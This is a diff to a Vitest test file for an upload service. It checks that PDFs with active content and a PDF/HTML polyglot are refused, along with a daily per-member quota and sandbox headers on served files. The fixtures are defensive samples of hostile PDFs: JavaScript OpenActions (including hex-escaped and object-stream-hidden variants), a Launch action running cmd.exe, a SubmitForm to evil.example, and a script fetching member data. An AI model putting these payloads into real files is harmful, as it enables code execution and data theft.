@@ -1,3 +1,4 @@
+import { deflateSync } from 'node:zlib';
 import { sql } from 'drizzle-orm';
 import sharp from 'sharp';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
@@ -208,6 +209,86 @@ describe('content is sniffed from the bytes', () => {
   });
 });
 
+/** A minimal PDF whose catalogue carries `extra` (e.g. an /OpenAction) and whose body ends with `tail`. */
+function pdfWith(extra: string, tail = ''): Buffer {
+  return Buffer.from(
+    `%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R${extra}>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n${tail}` +
+      'trailer<</Root 1 0 R>>\n%%EOF\n',
+    'latin1',
+  );
+}
+
+/** A PDF 1.5 object stream (Flate-compressed) holding `inner`: where a scanner of the raw bytes sees nothing. */
+function pdfWithObjectStream(inner: string): Buffer {
+  const body = deflateSync(Buffer.from(`3 0 ${inner}`, 'latin1'));
+  return Buffer.concat([
+    Buffer.from(
+      `%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction 3 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n` +
+        `4 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length ${body.length}>>stream\n`,
+      'latin1',
+    ),
+    body,
+    Buffer.from('\nendstream\nendobj\ntrailer<</Root 1 0 R>>\n%%EOF\n', 'latin1'),
+  ]);
+}
+
+describe('active content in PDFs is refused (docs/members.md § Uploads)', () => {
+  it('script, launch, embedded files, form submission, XFA — plain, name-escaped or inside an object stream', async () => {
+    const active: Array<[string, Buffer]> = [
+      ['OpenAction JavaScript', pdfWith('/OpenAction<</S/JavaScript/JS(app.alert(1))>>')],
+      ['hex-escaped name', pdfWith('/OpenAction<</S/J#61vaScript/J#53(app.alert(1))>>')],
+      ['Names JavaScript tree', pdfWith('/Names<</JavaScript 3 0 R>>')],
+      ['page additional action', pdfWith('/AA<</O<</S/JavaScript/JS 5 0 R>>>>')],
+      ['Launch', pdfWith('/OpenAction<</S/Launch/F(cmd.exe)>>')],
+      ['embedded file', pdfWith('/Names<</EmbeddedFiles 3 0 R>>')],
+      ['SubmitForm', pdfWith('/OpenAction<</S/SubmitForm/F(https://evil.example/)>>')],
+      ['XFA form', pdfWith('/AcroForm<</XFA 3 0 R>>')],
+      ['in an object stream', pdfWithObjectStream('<</S/JavaScript/JS(app.alert(1))>>')],
+    ];
+    await expectNothingStored(async () => {
+      for (const [what, data] of active) {
+        const r = await upload(ctx, a.c, 'contract', data, 'x.pdf', 'application/pdf');
+        expect(r.body.errCode, what).toBe('FILE_TYPE_NOT_ALLOWED');
+        expectError(asResponse(r), 'FILE_TYPE_NOT_ALLOWED');
+        expect(r.body.errMsg, what).toContain('可执行内容');
+      }
+    });
+  });
+
+  it('a PDF that is also an HTML page (polyglot) is refused', async () => {
+    const polyglot = pdfWith(
+      '',
+      '<html><body><script>fetch("/api/Member/userInfo")</script></body></html>\n',
+    );
+    await expectNothingStored(async () => {
+      const r = await upload(ctx, a.c, 'report', polyglot, 'x.pdf', 'application/pdf');
+      expectError(asResponse(r), 'FILE_TYPE_NOT_ALLOWED');
+      expect(r.body.errMsg).toContain('网页代码');
+    });
+  });
+
+  it('an encrypted PDF and an object stream that cannot be read are refused; a plain one with an object stream is kept', async () => {
+    await expectNothingStored(async () => {
+      const enc = await upload(
+        ctx,
+        a.c,
+        'contract',
+        pdfWith('', '9 0 obj<</Filter/Standard>>endobj\ntrailer<</Encrypt 9 0 R>>\n'),
+        'x.pdf',
+      );
+      expectError(asResponse(enc), 'FILE_TYPE_NOT_ALLOWED');
+      expect(enc.body.errMsg).toContain('加密');
+      const broken = Buffer.from(
+        '%PDF-1.7\n4 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length 9>>stream\nnot flate\nendstream\nendobj\n%%EOF\n',
+        'latin1',
+      );
+      expectError(asResponse(await upload(ctx, a.c, 'contract', broken, 'x.pdf')), 'FILE_TYPE_NOT_ALLOWED');
+    });
+    const fine = pdfWithObjectStream('<</S/GoTo/D[0/Fit]>>');
+    expectOk(asResponse(await upload(ctx, a.c, 'contract', fine, 'ok.pdf', 'application/pdf')));
+  });
+});
+
 describe('images are re-encoded', () => {
   it('EXIF is stripped and its orientation applied', async () => {
     const withExif = await sharp({ create: { width: 120, height: 60, channels: 3, background: '#888' } })
@@ -265,10 +346,73 @@ describe('size limit', () => {
     });
   });
 
-  it('the default limit is 10 MB', async () => {
+  it('the default limit is 10 MB, 500 MB a day', async () => {
     const { loadConfig } = await import('../src/config/env.ts');
     expect(loadConfig({}).uploadMaxBytes).toBe(10 * 1024 * 1024);
+    expect(loadConfig({}).uploadDailyBytes).toBe(500 * 1024 * 1024);
     expect(loadConfig({ DATA_DIR: '/srv/zl' }).uploadDir).toBe('/srv/zl/uploads');
+  });
+});
+
+describe('daily bytes per member (UPLOAD_DAILY_MB)', () => {
+  // An app of its own: 5 MB a day, filled here with files of 500 KB–900 KB.
+  let qctx: TestContext;
+  beforeAll(async () => {
+    qctx = await makeTestApp({ UPLOAD_DIR: tempUploadDir(), UPLOAD_MAX_MB: '1', UPLOAD_DAILY_MB: '5' });
+  });
+  afterAll(() => qctx.close());
+  /** A valid, inert PDF of exactly `size` bytes (a comment line pads it). */
+  function pdfOf(size: number): Buffer {
+    const head = pdfWith('');
+    return Buffer.concat([head, Buffer.from(`%${'x'.repeat(size - head.length - 2)}\n`, 'latin1')]);
+  }
+  const quotaOf = (memberId: number) =>
+    rows<{ count: number }>(
+      qctx,
+      sql`select count from rate_counters where key = ${`upload-bytes:m:${memberId}`}`,
+    );
+
+  it('20 uploads at once: exactly what fits in the day is stored, the rest refused in Chinese', async () => {
+    const m = await loggedIn(qctx);
+    const file = pdfOf(500 * 1024); // 10 of them fit in 5 MB, 11 do not
+    const results = await Promise.all(
+      Array.from({ length: 20 }, () => upload(qctx, m.c, 'report', file, 'r.pdf', 'application/pdf')),
+    );
+    const ok = results.filter((r) => r.body.success);
+    expect(ok).toHaveLength(10);
+    for (const r of results.filter((x) => !x.body.success)) {
+      expectError(asResponse(r), 'UPLOAD_QUOTA_EXCEEDED');
+      expect(r.body.errMsg).toBe('今天上传的文件已达每日 5 MB 上限，请明天再试');
+      expect(r.body.data.retryAfter).toBeGreaterThan(0);
+      expect(r.body.data.retryAfter).toBeLessThanOrEqual(86_400);
+    }
+    expect(await count(qctx, 'files', sql`owner_member_id = ${m.id}`)).toBe(10);
+    const [q] = await quotaOf(m.id);
+    expect(Number(q!.count)).toBe(10 * file.length);
+    // a small file still fits; another member is not affected
+    expectOk(asResponse(await upload(qctx, m.c, 'report', pdfOf(100 * 1024), 'r.pdf')));
+    expectOk(asResponse(await upload(qctx, (await loggedIn(qctx)).c, 'report', file, 'r.pdf')));
+  });
+
+  it('a refused file costs nothing of the day; the next day starts over', async () => {
+    const m = await loggedIn(qctx);
+    const file = pdfOf(900 * 1024);
+    for (let i = 0; i < 5; i++) {
+      const r = await upload(qctx, m.c, 'report', file, 'r.pdf');
+      expectOk(asResponse(r));
+    }
+    const [before] = await quotaOf(m.id);
+    // refused for what it is, not for the quota: the bytes come back
+    const bad = await upload(qctx, m.c, 'report', pdfWith('/OpenAction<</S/JavaScript/JS(1)>>'), 'x.pdf');
+    expectError(asResponse(bad), 'FILE_TYPE_NOT_ALLOWED');
+    expect((await quotaOf(m.id))[0]!.count).toBe(before!.count);
+    expectError(asResponse(await upload(qctx, m.c, 'report', file, 'r.pdf')), 'UPLOAD_QUOTA_EXCEEDED');
+    await qctx.database.db.execute(
+      sql`update rate_counters set window_start = window_start - interval '1 day'
+          where key = ${`upload-bytes:m:${m.id}`}`,
+    );
+    expectOk(asResponse(await upload(qctx, m.c, 'report', file, 'r.pdf')));
+    expect(Number((await quotaOf(m.id))[0]!.count)).toBe(file.length);
   });
 });
 
@@ -279,6 +423,8 @@ describe('serving and who may read', () => {
     expect(got.statusCode).toBe(200);
     expect(got.headers['cache-control']).toBe('public, max-age=31536000, immutable');
     expect(got.headers['x-content-type-options']).toBe('nosniff');
+    // opened as a page, a file runs nothing (docs/members.md § Serving)
+    expect(got.headers['content-security-policy']).toBe("default-src 'none'; sandbox");
     expect(got.headers['content-type']).toBe('image/jpeg');
     expect(String(got.headers['content-disposition'])).toMatch(/^inline/);
     expect(Number(got.headers['content-length'])).toBe(r.body.data.size);
